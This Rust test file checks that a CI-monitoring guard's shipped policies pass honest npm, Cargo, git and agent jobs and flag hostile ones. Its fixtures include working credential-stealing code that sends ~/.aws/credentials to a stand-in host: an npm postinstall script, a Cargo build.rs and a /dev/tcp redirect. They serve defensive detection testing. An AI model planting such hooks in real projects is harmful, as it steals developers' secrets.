//! The policies that we ship, on real jobs of their kind: the honest one ends quietly, its hostile twin does not.
//!
//! Without the rights, a client or its registry, each test says so and passes.

#[path = "../demo/network.rs"]
#[expect(dead_code, reason = "the demo uses all of it")]
mod network;

use std::fs;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Mutex, PoisonError};
use std::thread;
use std::time::Duration;

use edamame_guard::policy::Policy;
use edamame_guard::sensors::ebpf::{Ebpf, Options, SensorError};
use serde_json::Value;
use tempfile::TempDir;

use network::{Network, Sink};

const SINK: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const NAMES: [&str; 6] =
    ["agent-fix", "audit-everything", "npm-build", "read-only-review", "release", "rust-build"];

/// One job at a time: two cores have enough to do with one.
static TURN: Mutex<()> = Mutex::new(());

/// Whether the kernel can be watched here; says so where it can't.
fn can_watch(test: &str) -> bool {
    match Ebpf::start(&Options::default()) {
        Ok(_) => true,
        Err(SensorError::NotPermitted | SensorError::NoTypes | SensorError::NoCgroup) => {
            println!("skipped: {test} needs root and BPF");
            false
        }
        Err(error) => panic!("{error}"),
    }
}

/// Runs a test on the machine's own network, for clients that fetch from their registry.
fn online(test: &str, tools: &[&str], body: impl FnOnce()) {
    let _turn = TURN.lock().unwrap_or_else(PoisonError::into_inner);
    if has(test, tools) && can_watch(test) {
        body();
    }
}

/// Runs a test in a network of its own, on a thread of its own, so that it goes away with the test.
fn apart(test: &str, tools: &[&str], body: impl FnOnce(&Network) + Send) {
    let _turn = TURN.lock().unwrap_or_else(PoisonError::into_inner);
    if !has(test, tools) || !can_watch(test) {
        return;
    }
    let ended = thread::scope(|scope| {
        scope
            .spawn(|| {
                let network = Network::enter(SINK).expect("a network of its own");
                body(&network);
                network.clear().expect("nothing is left");
            })
            .join()
    });
    if let Err(panic) = ended {
        std::panic::resume_unwind(panic);
    }
}

fn has(test: &str, tools: &[&str]) -> bool {
    let path = search_path();
    let missing =
        tools.iter().find(|tool| !std::env::split_paths(&path).any(|folder| folder.join(tool).is_file()));
    if let Some(tool) = missing {
        println!("skipped: {test} needs {tool}");
    }
    missing.is_none()
}

/// This toolchain itself before any manager's stand-in for it, which looks for its settings in the home.
fn search_path() -> String {
    let toolchain = Path::new(env!("CARGO")).parent().expect("a folder").display();
    format!("{toolchain}:{}", std::env::var("PATH").expect("a path"))
}

/// A home with a made-up credential, and a workspace under version control. Not in a scratch folder, where the
/// policies let a job write.
struct Place {
    root: TempDir,
}

impl Place {
    fn new(files: &[(&str, &str)]) -> Self {
        let place = Self { root: tempfile::tempdir_in("/var/tmp").expect("a folder") };
        place.write("home/.aws/credentials", "[default]\naws_secret_access_key = kZ9-not-a-real-one-4f\n");
        place.write(
            "home/.gitconfig",
            "[user]\nname = ci\nemail = ci@dev.example\n[init]\ndefaultBranch = main\n[safe]\ndirectory = *\n",
        );
        for (path, text) in files {
            place.write(&format!("work/{path}"), text);
        }
        place.sets_up("git init --quiet && git add --all && git commit --quiet --message Start");
        place
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.root.path().join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, text).expect("written");
    }

    fn command(&self, program: &str) -> Command {
        let mut command = Command::new(program);
        command
            .env_clear()
            .env("HOME", self.root.path().join("home"))
            .env("PATH", search_path())
            .env("CI", "true")
            .current_dir(self.root.path().join("work"))
            .stdin(Stdio::null());
        command
    }

    /// What a checkout or set-up step did before the guard starts.
    #[track_caller]
    fn sets_up(&self, script: &str) {
        let output = self.command("bash").args(["-euc", script]).output().expect("bash starts");
        assert!(output.status.success(), "{script}: {}", text(&output.stderr));
    }

    /// Whether a client reaches its registry; says so where it can't.
    fn fetches(&self, test: &str, script: &str) -> bool {
        let output = self.command("bash").args(["-euc", script]).output().expect("bash starts");
        if !output.status.success() {
            println!("skipped: {test} needs a registry: {}", text(&output.stderr));
        }
        output.status.success()
    }

    /// The script as the step, under one of the policies.
    fn run(&self, policy: &str, script: &str) -> Run {
        self.write("step.sh", script);
        let output = self
            .command(env!("CARGO_BIN_EXE_edamame-guard"))
            .args(["run", "--report-dir", "../report", "--policy"])
            .arg(shipped(policy))
            .args(["--", "bash", "../step.sh"])
            .output()
            .expect("the guard starts");
        let report = self.root.path().join("report/findings.json");
        let report =
            fs::read_to_string(&report).unwrap_or_else(|error| panic!("{error}: {}", text(&output.stderr)));
        Run { output, report: serde_json::from_str(&report).expect("JSON") }
    }
}

struct Run {
    output: Output,
    report: Value,
}

impl Run {
    /// `kind rule object` of each finding.
    fn told(&self, is_wanted: impl Fn(&Value) -> bool) -> Vec<String> {
        let findings = self.report["findings"].as_array().expect("findings").iter();
        let word = |finding: &Value, key: &str| finding[key].as_str().unwrap_or_default().to_owned();
        findings
            .filter(|finding| is_wanted(finding))
            .map(|finding| ["kind", "rule", "object"].map(|key| word(finding, key)).join(" "))
            .collect()
    }

    /// The job did its work, and the policy has nothing against any of it.
    #[track_caller]
    fn is_quiet(&self) {
        assert_eq!(self.output.status.code(), Some(0), "{self}");
        assert_eq!(self.told(|_| true), [""; 0], "{self}");
        assert_eq!(self.report["coverage"]["lost_events"], 0);
        let counted = &self.report["steps"][0]["events"];
        assert!(counted["process"].as_u64() > Some(2), "the job was watched: {counted}");
    }

    /// The job fails, for these among others: `rule object`, an object by its end.
    #[track_caller]
    fn fails_for(&self, wanted: &[(&str, &str)]) {
        assert_eq!(self.output.status.code(), Some(86), "{self}");
        let failing = self.told(|finding| finding["fails"] == true);
        for (rule, object) in wanted {
            let is_told = |told: &String| told.contains(&format!(" {rule} ")) && told.ends_with(object);
            assert!(failing.iter().any(is_told), "{rule} {object} is missing: {failing:#?}\n{self}");
        }
    }
}

impl std::fmt::Display for Run {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(formatter, "{}{}", text(&self.output.stdout), text(&self.output.stderr))
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn shipped(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("policies").join(name).with_extension("yml")
}

/// What thieves do: read a credential, send it.
const THIEF: &str = r#"
const data = require("fs").readFileSync(process.env.HOME + "/.aws/credentials");
const request = require("http").request({ host: "203.0.113.7", port: 8080, method: "POST" });
request.on("response", (response) => response.resume());
request.end(data);
"#;

#[test]
fn each_opens_with_whom_it_is_for_and_passes_the_check() {
    let mut found: Vec<String> = fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("policies"))
        .expect("the folder")
        .map(|entry| entry.expect("a file").path())
        .filter(|path| path.extension().is_some_and(|extension| extension == "yml"))
        .map(|path| path.file_stem().expect("a name").to_string_lossy().into_owned())
        .collect();
    found.sort();
    assert_eq!(found, NAMES);
    for name in NAMES {
        let written = fs::read_to_string(shipped(name)).expect(name);
        let opening: Vec<&str> = written.lines().take_while(|line| line.starts_with('#')).collect();
        let opening = opening.join("\n");
        for part in ["# For whom: ", "# Stops: ", "# Leaves open: "] {
            assert!(opening.contains(part), "{name} says {part:?} in its opening comment");
        }
        let policy = Policy::parse(&written, name).unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(policy.warnings(), [], "{name}");
    }
}

const NPM_PROJECT: &[(&str, &str)] = &[
    (
        "package.json",
        r#"{"name": "app", "version": "1.0.0", "scripts": {"test": "node --test", "build": "esbuild src/index.js --bundle --platform=node --outfile=dist/app.js"},
            "dependencies": {"is-number": "7.0.0"}, "devDependencies": {"esbuild": "0.25.0"}, "allowScripts": {"esbuild": true}}"#,
    ),
    ("src/index.js", "exports.isCount = (value) => require('is-number')(value) && value >= 0;\n"),
    (
        "test/index.test.js",
        "const {isCount} = require('../src/index.js');\nrequire('node:test')('counts', () => require('node:assert').ok(isCount(3)));\n",
    ),
    (".gitignore", "node_modules\ndist\n"),
];

#[test]
fn npm_build_is_quiet_on_an_install_test_and_build() {
    let test = "npm_build_is_quiet_on_an_install_test_and_build";
    online(test, &["npm", "git"], || {
        let place = Place::new(NPM_PROJECT);
        if place.fetches(test, "npm install --package-lock-only --ignore-scripts --no-audit && rm -rf ~/.npm")
        {
            let run = place.run("npm-build", "set -eu\nnpm ci\nnpm test\nnpm run build\n");
            run.is_quiet();
            assert!(place.root.path().join("work/dist/app.js").exists(), "{run}");
            assert_ne!(run.report["steps"][0]["events"]["egress"], 0, "packages came from the registry");
        }
    });
}

#[test]
fn npm_build_fails_for_a_package_that_steals() {
    apart("npm_build_fails_for_a_package_that_steals", &["npm", "git"], |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 8080)).expect("a server");
        let place = Place::new(&[
            (
                "package.json",
                r#"{"name": "app", "version": "1.0.0", "dependencies": {"telemetry": "file:telemetry"}, "allowScripts": {"file:telemetry": true, "telemetry": true}}"#,
            ),
            (
                "telemetry/package.json",
                r#"{"name": "telemetry", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}"#,
            ),
            ("telemetry/steal.js", THIEF),
        ]);
        let run = place.run("npm-build", "set -eu\nnpm install --offline --no-audit\n");
        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real: {run}");
        run.fails_for(&[("egress-undeclared", "203.0.113.7:8080"), ("cred-file-access", ".aws/credentials")]);
    });
}

#[test]
fn rust_build_is_quiet_on_a_build_with_build_scripts_and_macros() {
    let test = "rust_build_is_quiet_on_a_build_with_build_scripts_and_macros";
    online(test, &["cargo", "rustc", "cc", "git"], || {
        let place = Place::new(&[
            (
                "Cargo.toml",
                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nthiserror = \"2\"\nitoa = \"1\"\n",
            ),
            (
                "build.rs",
                "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(out + \"/made.rs\", \"pub const MADE: u32 = 4;\").unwrap();\n}\n",
            ),
            (
                "src/main.rs",
                "include!(concat!(env!(\"OUT_DIR\"), \"/made.rs\"));\n\n#[derive(Debug, thiserror::Error)]\n#[error(\"odd\")]\nstruct Odd;\n\n\
                 fn main() {\n    println!(\"{} {Odd}\", itoa::Buffer::new().format(MADE));\n}\n\n\
                 #[test]\nfn made() {\n    assert_eq!((MADE, Odd.to_string().as_str()), (4, \"odd\"));\n}\n",
            ),
            (".gitignore", "target\n"),
        ]);
        if place.fetches(test, "cargo generate-lockfile && rm -rf ~/.cargo") {
            let run = place.run("rust-build", "set -eu\ncargo build\ncargo test\n");
            run.is_quiet();
            assert!(place.root.path().join("work/target/debug/app").exists(), "{run}");
            assert_ne!(run.report["steps"][0]["events"]["egress"], 0, "crates came from the registry");
        }
    });
}

#[test]
fn rust_build_fails_for_a_build_script_that_steals() {
    apart("rust_build_fails_for_a_build_script_that_steals", &["cargo", "rustc", "cc", "git"], |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 8080)).expect("a server");
        let place = Place::new(&[
            (
                "Cargo.toml",
                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nhelper = { path = \"helper\" }\n",
            ),
            ("src/main.rs", "fn main() {}\n"),
            ("helper/Cargo.toml", "[package]\nname = \"helper\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
            ("helper/src/lib.rs", ""),
            (
                "helper/build.rs",
                "use std::io::{Read, Write};\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap();\n    let data = std::fs::read(home + \"/.aws/credentials\").unwrap();\n    \
                 let mut to = std::net::TcpStream::connect(\"203.0.113.7:8080\").unwrap();\n    \
                 write!(to, \"POST / HTTP/1.0\\r\\nContent-Length: {}\\r\\n\\r\\n\", data.len()).unwrap();\n    to.write_all(&data).unwrap();\n    \
                 to.read(&mut [0; 9]).unwrap();\n}\n",
            ),
        ]);
        let run = place.run("rust-build", "set -eu\ncargo build --offline\n");
        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real: {run}");
        run.fails_for(&[("egress-undeclared", "203.0.113.7:8080"), ("cred-file-access", ".aws/credentials")]);
    });
}

/// A server for what is pushed, as a forge would be; it was there before the job.
fn forge(place: &Place, name: &str, address: Ipv4Addr) -> Child {
    place.sets_up(&format!("git clone --quiet --bare . ../{name}/app.git"));
    let folder = place.root.path().join(name);
    let mut command = place.command("git");
    command
        .args(["daemon", "--reuseaddr", "--export-all", "--enable=receive-pack"])
        .arg(format!("--listen={address}"))
        .arg(format!("--base-path={}", folder.display()))
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let server = command.spawn().expect("git starts");
    let is_up = (0..100).any(|_| {
        thread::sleep(Duration::from_millis(50));
        std::net::TcpStream::connect((address, 9418)).is_ok()
    });
    assert!(is_up, "the server listens");
    server
}

const LIBRARY: &[(&str, &str)] = &[
    ("package.json", r#"{"name": "app", "version": "1.0.0", "files": ["index.js"]}"#),
    ("index.js", "exports.answer = 42;\n"),
    (
        "Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\nrepository = \"https://dev.example\"\n",
    ),
    ("src/lib.rs", "pub const ANSWER: u32 = 42;\n"),
    (".gitignore", "target\n*.tgz\n*.tar.gz\nCargo.lock\n"),
];

#[test]
fn release_is_quiet_on_a_tag_a_push_and_packages() {
    apart("release_is_quiet_on_a_tag_a_push_and_packages", &["npm", "cargo", "git"], |_| {
        let place = Place::new(LIBRARY);
        let mut forge = forge(&place, "forge", Ipv4Addr::LOCALHOST);
        place.sets_up("git remote add origin git://127.0.0.1/app.git && git fetch --quiet origin");
        let run = place.run(
            "release",
            "set -eu\ngit tag --annotate v1.0.0 --message v1.0.0\ngit push origin main v1.0.0\n\
             npm pack\ncargo package --offline --quiet\n\
             tar -czf app-1.0.0.tar.gz index.js\nsha256sum app-1.0.0.tar.gz > SHA256SUMS\n",
        );
        run.is_quiet();
        place.sets_up("git ls-remote --exit-code origin v1.0.0 && test -s app-1.0.0.tgz && test -s target/package/app-1.0.0.crate");
        forge.kill().expect("ended");
        forge.wait().expect("ended");
    });
}

#[test]
fn release_fails_for_a_push_elsewhere() {
    apart("release_fails_for_a_push_elsewhere", &["git"], |network| {
        let place = Place::new(LIBRARY);
        let mut elsewhere = forge(&place, "elsewhere", network.address);
        let run = place.run(
            "release",
            "set -eu\ngit tag v1.0.0\ngit push git://203.0.113.7/app.git v1.0.0\ngit push --force git://203.0.113.7/app.git main\ntouch ~/left-behind\n",
        );
        place.sets_up("git ls-remote --exit-code git://203.0.113.7/app.git v1.0.0");
        run.fails_for(&[
            ("egress-undeclared", "203.0.113.7:9418"),
            ("run-undeclared", "/git"),
            ("file-undeclared", "/left-behind"),
        ]);
        elsewhere.kill().expect("ended");
        elsewhere.wait().expect("ended");
    });
}

const CHANGED: &[(&str, &str)] = &[
    ("src/sum.py", "def total(numbers):\n    return sum(numbers) + 1\n"),
    (
        "tests/test_sum.py",
        "import unittest\nfrom src.sum import total\n\nclass Sum(unittest.TestCase):\n    def test_total(self):\n        self.assertEqual(total([1, 2]), 3)\n",
    ),
    (".github/workflows/ci.yml", "on: push\n"),
    ("tests/__init__.py", ""),
    ("src/__init__.py", ""),
    (".gitignore", "__pycache__\n"),
];

#[test]
fn read_only_review_is_quiet_on_reading_and_one_comment() {
    apart("read_only_review_is_quiet_on_reading_and_one_comment", &["git"], |_| {
        let place = Place::new(CHANGED);
        place.sets_up(
            "echo '# more' >> src/sum.py && git commit --quiet --all --message More && touch src/sum.py",
        );
        let run = place.run(
            "read-only-review",
            "set -euo pipefail\ngit status\ngit log --oneline -5\ngit diff HEAD~1 | head -50\ngit grep -n total\nls -la src\n\
             find . -name '*.py' -not -path './.git/*' | sort | xargs wc -l\nscratch=$(mktemp)\ngrep -rn 'sum(' src > \"$scratch\"\n\
             { echo '## Review'; sed -n 1,5p \"$scratch\"; } > review.md\nrm \"$scratch\"\ncat review.md\n",
        );
        run.is_quiet();
        assert!(place.root.path().join("work/review.md").exists());
    });
}

#[test]
fn read_only_review_fails_for_a_change_and_a_foreign_program() {
    apart("read_only_review_fails_for_a_change_and_a_foreign_program", &["git", "python3"], |_| {
        let place = Place::new(CHANGED);
        let run = place.run(
            "read-only-review",
            "set -eu\ngit diff\nsed -i s/1/0/ src/sum.py\ncat ~/.aws/credentials\nsh -c 'python3 -c 1'\necho fine > review.md\n",
        );
        run.fails_for(&[
            ("file-undeclared", "src/sum.py"),
            ("file-undeclared", ".aws/credentials"),
            ("run-undeclared", "python3"),
        ]);
    });
}

#[test]
fn agent_fix_is_quiet_on_an_edit_tests_and_a_commit() {
    apart("agent_fix_is_quiet_on_an_edit_tests_and_a_commit", &["git", "python3"], |_| {
        let place = Place::new(CHANGED);
        let run = place.run(
            "agent-fix",
            "set -eu\ngit checkout --quiet -b fix\ngrep -n 'sum' -r src\npython3 -m unittest discover -s tests -t . && exit 1\n\
             sed -i 's/ + 1//' src/sum.py\npython3 -m unittest discover -s tests -t .\ngit diff\ngit add src\n\
             git commit --quiet --message 'Add up the numbers alone'\n",
        );
        run.is_quiet();
        place.sets_up("git log -1 --format=%s fix | grep --quiet 'Add up'");
    });
}

#[test]
fn agent_fix_fails_for_a_changed_workflow_and_a_stranger() {
    apart("agent_fix_fails_for_a_changed_workflow_and_a_stranger", &["git", "bash"], |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 8080)).expect("a server");
        let place = Place::new(CHANGED);
        let run = place.run(
            "agent-fix",
            "set -eu\nsed -i 's/ + 1//' src/sum.py\necho 'permissions: write-all' >> .github/workflows/ci.yml\n\
             git diff > /dev/tcp/203.0.113.7/8080\ngit commit --quiet --all --message Fix\n",
        );
        run.fails_for(&[
            ("file-undeclared", ".github/workflows/ci.yml"),
            ("egress-undeclared", "203.0.113.7:8080"),
        ]);
        drop(sink);
    });
}

#[test]
fn audit_everything_tells_and_never_fails() {
    apart("audit_everything_tells_and_never_fails", &["node", "git"], |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 8080)).expect("a server");
        let place = Place::new(CHANGED);
        place
            .run(
                "audit-everything",
                "set -eu\ngit log -1\npython3 -m unittest discover -s tests -t . || true\ngit status\n",
            )
            .is_quiet();

        place.write("work/vendor/setup.js", THIEF);
        place.write("work/Makefile", "deps:\n\t@node vendor/setup.js\n");
        let run = place.run("audit-everything", "set -eu\nmake deps\n");
        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real: {run}");
        assert_eq!((run.output.status.code(), &run.report["verdict"]), (Some(0), &Value::from("attack")));
        assert_eq!(run.told(|finding| finding["fails"] == true), [""; 0]);
        assert_eq!(run.told(|finding| finding["kind"] == "attack").len(), 2, "{run}");
    });
}
